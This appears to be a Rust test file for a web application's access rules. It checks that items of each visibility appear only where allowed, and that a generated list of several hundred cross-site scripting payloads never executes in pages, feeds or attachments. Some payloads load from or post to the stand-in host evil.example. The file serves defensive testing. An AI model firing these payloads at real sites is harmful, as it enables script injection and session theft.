//! A walk over every page, list, search, feed, calendar and file, of items of every visibility and state: what each
//! reader sees anywhere is just what the rule lets them see.

use std::collections::BTreeSet;

use axum::http::StatusCode;
use treff::intake::attachment::read_attachment;
use treff::store::{NewItem, NewStem, NewVersion};

use super::world::{Answer, Pages, now};
use crate::on_both_databases;

/// Number, visibility, and whether anybody at all may read it.
const ITEMS: [(u32, &str, bool); 11] = [
    (20, "public", true),
    (21, "forum", true),
    (22, "group:health", true),
    (23, "only:health", true),
    (24, "group:night", true),
    (25, "only:night", true),
    (26, "group:other", true),
    (27, "public", false), // withdrawn
    (28, "public", false), // not out yet
    (29, "public", true),  // closed long ago
    (30, "group:health", true),
];

/// What marks an item wherever it shows: in its title, its text, its slug, its file.
fn mark(number: u32) -> String {
    format!("merke{number}")
}

fn item(number: u32, visibility: &str) -> NewItem {
    let mark = mark(number);
    let text = format!(
        r#"{{"title":"Felles sak {mark}","body":"Om kode{number}. Mer {mark}.","minutes":{{"achieved":null,"how":null,"next":null,"why":null}},"place":"Rom {mark}"}}"#
    );
    let at = |text: &str| text.parse::<chrono::DateTime<chrono::Utc>>().unwrap();
    let stem = |stem: String| NewStem { family: "no".into(), stem, weight: 100 };
    let group = if number == 30 { "\"group:health\",\"group:other\"," } else { "" };
    let first = NewVersion {
        kind: "event".into(),
        audience: None,
        about: format!("[{group}\"sector:health\",\"group:night\"]"),
        interested: true,
        visibility: visibility.into(),
        importance: "normal".into(),
        lane: "digest".into(),
        release_at: at(if number == 28 { "2027-03-09T00:00:00Z" } else { "2027-03-07T00:00:00Z" }),
        expires_at: (number == 29).then(|| at("2027-03-07T12:00:00Z")),
        closes_at: None,
        source: None,
        contact: None,
        language: "nb".into(),
        fields: r#"{"starts_at":{"at":"2027-04-08T07:00:00Z","day":null}}"#.into(),
        given: "{}".into(),
        texts: vec![("nb".into(), text)],
        attachments: Some(vec![read_attachment(&format!("{mark}.txt"), mark.into_bytes()).unwrap()]),
        stems: ["fell", "sak"]
            .map(str::to_owned)
            .into_iter()
            .chain([format!("kode{number}")])
            .map(stem)
            .collect(),
        analysis: treff::content::search::ANALYSIS,
    };
    NewItem { public_id: format!("{number:032x}"), slug: format!("sak-{}", self::mark(number)), first }
}

pub async fn add_items(pages: &Pages) {
    pages
        .run(
            r#"INSERT INTO term (id, facet, slug, parent_id, names, kind) VALUES
               (120, 'group', 'night', 104, '{"nb":"Nattvakt"}', 'adhoc'),
               (121, 'group', 'other', NULL, '{"nb":"Industri"}', 'competence')"#,
        )
        .await;
    pages.run("UPDATE forum SET change_number = change_number + 1").await;
    if !pages.db.url.starts_with("sqlite") {
        // The rows of the small forum were given their keys by hand.
        pages.run("ALTER TABLE item ALTER COLUMN id RESTART WITH 100").await;
    }
    let items: Vec<_> = ITEMS.iter().map(|(number, visibility, _)| item(*number, visibility)).collect();
    let mut tx = pages.db.store.begin().await.unwrap();
    let now = now();
    tx.insert_items(now, "test", &items).await.unwrap();
    tx.withdraw_item(now, "test", &format!("sak-{}", mark(27))).await.unwrap();
    tx.commit().await.unwrap();
}

/// The items that stand in an answer.
fn seen_in(answer: &Answer) -> BTreeSet<u32> {
    ITEMS.iter().map(|(number, ..)| *number).filter(|number| answer.body.contains(&mark(*number))).collect()
}

/// The address of the next page.
fn next_page(answer: &Answer) -> Option<String> {
    let before = &answer.body[..answer.body.find("rel=\"next\"")?];
    let from = before.rfind("href=\"")? + 6;
    Some(before[from..from + before[from..].find('"')?].replace("&amp;", "&"))
}

/// Where a reader can look: lists, and what an item's own paths begin with.
pub struct Places {
    pub list: &'static str,
    pub item: &'static str,
    pub feeds: Vec<String>,
}

impl Places {
    pub fn of_everyone() -> Places {
        let of =
            |facet: &str, slug: &str| ["atom", "ics"].map(|form| format!("/feeds/{facet}/{slug}.{form}"));
        let mut feeds: Vec<_> = ["/feeds/all.atom", "/feeds/all.ics"].map(str::to_owned).to_vec();
        feeds.extend(of("sector", "health"));
        feeds.extend(["health", "night", "other"].iter().flat_map(|group| of("group", group)));
        Places { list: "/public", item: "/i/", feeds }
    }

    pub fn of_a_person() -> Places {
        Places { list: "/me/items", item: "/items/", feeds: Vec::new() }
    }

    fn lists(&self) -> Vec<String> {
        let questions = [
            "q=felles",
            "q=sak",
            "kind=event",
            "sector=health",
            "group=health",
            "group=night",
            "group=other",
            "year=2027",
            "year=2027&month=3",
            "q=felles&group=night",
        ];
        let by_code = ITEMS.iter().map(|(number, ..)| format!("q=kode{number}"));
        let questions = questions.map(str::to_owned).into_iter().chain(by_code);
        [self.list.to_owned()].into_iter().chain(questions.map(|q| format!("{}?{q}", self.list))).collect()
    }
}

/// Looks everywhere; what was seen in lists and feeds, and which items opened with all that belongs to them.
pub async fn look(
    ask: &mut impl AsyncFnMut(String) -> Answer,
    places: &Places,
) -> (BTreeSet<u32>, BTreeSet<u32>) {
    let (mut listed, mut opened) = (BTreeSet::new(), BTreeSet::new());
    for mut path in places.lists().into_iter().chain(places.feeds.clone()) {
        for _ in 0..20 {
            let answer = ask(path.clone()).await;
            listed.extend(seen_in(&answer));
            match next_page(&answer) {
                Some(next) => path = next,
                None => break,
            }
        }
    }
    for (number, ..) in ITEMS {
        let own = format!("{}sak-{}", places.item, mark(number));
        let mut answers = Vec::new();
        for part in ["", "?lang=nn", "/event.ics", "/file/0"] {
            answers.push(ask(format!("{own}{part}")).await);
        }
        let open = answers[0].status == StatusCode::OK;
        for answer in &answers {
            assert_eq!(answer.status == StatusCode::OK, open, "{own}: all of an item opens, or nothing");
            listed.extend(seen_in(answer).into_iter().filter(|other| *other != number));
            assert!(open || !answer.body.contains(&mark(number)), "{own} is shut and still says its title");
        }
        if open {
            opened.insert(number);
        }
    }
    (listed, opened)
}

/// The items of these visibilities that anybody may read.
pub fn expected(visibilities: &[&str]) -> BTreeSet<u32> {
    let of = |(_, visibility, may): &&(u32, &str, bool)| *may && visibilities.contains(visibility);
    ITEMS.iter().filter(of).map(|(number, ..)| *number).collect()
}

on_both_databases! {
    async fn everyone_sees_public_items_and_nothing_else_anywhere(db: Database) {
        let pages = Pages::over(db).await;
        add_items(&pages).await;
        let mut ask = async |path: String| pages.get(&path).await;
        let (listed, opened) = look(&mut ask, &Places::of_everyone()).await;
        assert_eq!(opened, expected(&["public"]));
        assert_eq!(listed, expected(&["public"]));
    }

    async fn each_item_follows_its_visibility_at_once(db: Database) {
        let pages = Pages::over(db).await;
        add_items(&pages).await;
        pages.run("UPDATE item_version SET visibility = 'public' WHERE visibility = 'group:health'").await;
        let mut ask = async |path: String| pages.get(&path).await;
        let (listed, opened) = look(&mut ask, &Places::of_everyone()).await;
        assert_eq!(opened, expected(&["public", "group:health"]));
        assert_eq!(listed, opened);
        pages.run("UPDATE item_version SET visibility = 'forum'").await;
        let (listed, opened) = look(&mut ask, &Places::of_everyone()).await;
        assert_eq!((listed.len(), opened.len()), (0, 0));
    }

    async fn hundreds_of_payloads_run_nowhere(db: Database) {
        let pages = Pages::over(db).await;
        for payload in payloads() {
            let coded: String = payload.bytes().map(|b| format!("%{b:02X}")).collect();
            for path in [
                format!("/public?q={coded}"), format!("/public?kind={coded}&sector={coded}&year={coded}&month={coded}"),
                format!("/public?after={coded}&lang={coded}"), format!("/i/{coded}"), format!("/i/aapen?lang={coded}"),
                format!("/feeds/{coded}.atom"), format!("/feeds/sector/{coded}.ics"), format!("/i/aapen/file/{coded}"),
            ] {
                let answer = pages.get(&path).await;
                assert_ne!(answer.status, StatusCode::INTERNAL_SERVER_ERROR, "{path}");
                assert_harmless(&answer.body, payload.as_str(), &path);
            }
        }
    }

    async fn payloads_in_an_item_run_nowhere(db: Database) {
        let pages = Pages::over(db).await;
        add_items(&pages).await;
        for chunk in payloads().chunks(60) {
            let text = chunk.join(" ");
            let json = |text: &str| serde_json::to_string(text).unwrap();
            let mut one = item(40, "public");
            let body = format!("{text}\n\n# {text}\n\n[{text}](javascript:alert(1)) ![x]({text})");
            one.first.texts = vec![("nb".into(), format!(
                r#"{{"title":{},"body":{},"minutes":{{"achieved":{},"how":null,"next":null,"why":null}},"place":{}}}"#,
                json(&text), json(&body), json(&text), json(&text)
            ))];
            one.first.contact = Some(format!(r#"{{"name":{},"email":{},"phone":{}}}"#, json(&text), json(&text), json(&text)));
            one.first.attachments = Some(vec![read_attachment(&text, text.clone().into_bytes()).unwrap()]);
            one.public_id = treff::token::TOKEN_LENGTH.to_string() + &chunk.len().to_string() + &text.len().to_string();
            one.slug = format!("farlig-{}", text.len());
            let slug = one.slug.clone();
            let mut tx = pages.db.store.begin().await.unwrap();
            tx.insert_items(now(), "test", &[one]).await.unwrap();
            tx.commit().await.unwrap();
            for path in [format!("/i/{slug}"), format!("/i/{slug}?lang=en"), "/public".into(), "/".into()] {
                let answer = pages.get(&path).await;
                assert_eq!(answer.status, StatusCode::OK, "{path}");
                assert_harmless(&answer.body, &text, &path);
            }
            let feed = pages.get("/feeds/all.atom").await.body.parse::<atom_syndication::Feed>().expect("well-formed");
            for entry in feed.entries {
                let html = entry.content.and_then(|content| content.value).unwrap_or_default();
                assert_harmless(&html, &text, "/feeds/all.atom");
            }
        }
    }
}

/// No tag, attribute or address in `html` acts. What is shown as text is escaped and holds no `<`.
fn assert_harmless(html: &str, payload: &str, place: &str) {
    let lower = html.to_lowercase();
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name = tag
            .trim_start_matches('/')
            .split(|c: char| !c.is_ascii_alphanumeric())
            .next()
            .unwrap_or_default();
        let bad = [
            "script", "img", "svg", "iframe", "object", "embed", "style", "video", "audio", "body2", "math",
            "base", "marquee",
        ];
        assert!(!bad.contains(&name), "{place}: <{tag}> of {payload}");
        let outside_values = remove_values(tag);
        assert!(!outside_values.contains(" on"), "{place}: <{tag}> of {payload}");
        for attribute in ["href", "src", "action", "formaction", "data"] {
            for scheme in ["javascript:", "data:", "vbscript:"] {
                let acting = format!(" {attribute}=\"{scheme}");
                assert!(!tag.contains(&acting), "{place}: <{tag}> of {payload}");
            }
        }
        assert!(!outside_values.contains(" style="), "{place}: <{tag}> of {payload}");
    }
}

/// A tag without what stands in quotes.
fn remove_values(tag: &str) -> String {
    tag.split('"').step_by(2).collect()
}

/// Hundreds: each way to break out, with each thing to do.
fn payloads() -> Vec<String> {
    let outs = [
        "",
        "\">",
        "'>",
        "</title>",
        "</textarea>",
        "</script>",
        "-->",
        "]]>",
        "\u{0}",
        "%3C",
        "\\\"",
        "{{7*7}}",
        "{% raw %}",
    ];
    let acts = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<math><mi xlink:href=\"data:x,1\">",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "javascript:alert(1)",
        "<style>*{}</style>",
        "<base href=//evil.example>",
        "<object data=x>",
        "<embed src=x>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<form action=//evil.example><button>x",
        "[x](javascript:alert(1))",
        "<scr\u{0}ipt>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
    ];
    outs.iter().flat_map(|out| acts.iter().map(move |act| format!("{out}{act}"))).collect()
}
